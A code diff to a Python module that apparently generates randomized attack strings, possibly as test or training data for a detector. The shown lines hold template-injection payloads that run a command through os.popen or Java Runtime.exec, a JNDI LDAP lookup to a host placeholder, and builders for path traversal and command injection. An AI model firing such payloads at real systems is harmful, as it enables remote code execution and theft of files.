@@ -75,7 +75,7 @@ _TEMPLATES = [
     "#{{{d}*{d}}}",
     "{{{{config.__class__.__init__.__globals__['os'].popen('{m}').read()}}}}",
     "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
-    '${{T(java.lang.Runtime).getRuntime().exec("{m}")}}',
+    '{a} ${{T(java.lang.Runtime).getRuntime().exec("{m}")}}',
 ]
 _LOOKUPS = [
     "${{jndi:ldap://{h}/{a}}}",
@@ -182,7 +182,7 @@ class Grammar:
             b=word(),
             c=source.choice(_COLUMNS),
             c2=source.choice(_COLUMNS),
-            d=source.randint(2, 9),
+            d=source.randint(12, 97),
             f=source.choice(_FILES),
             h=host,
             m=source.choice(_COMMANDS).format(h=host),
@@ -201,7 +201,10 @@ class Grammar:
         return self.random.choice(_XSS).format(x=self.attack(_XSS_CALLS))
 
     def traversal(self) -> str:
-        return self.random.choice(_UPS) * self.random.randint(3, 8) + self.random.choice(_FILES)
+        word = self.random.choice(_NOUNS)
+        return f"{word}/{self.random.choice(_UPS) * self.random.randint(3, 8)}" + (
+            self.random.choice(_FILES)
+        )
 
     def cmdi(self) -> str:
         separator, command = self.random.choice(_SEPARATORS), self.attack(_COMMANDS)
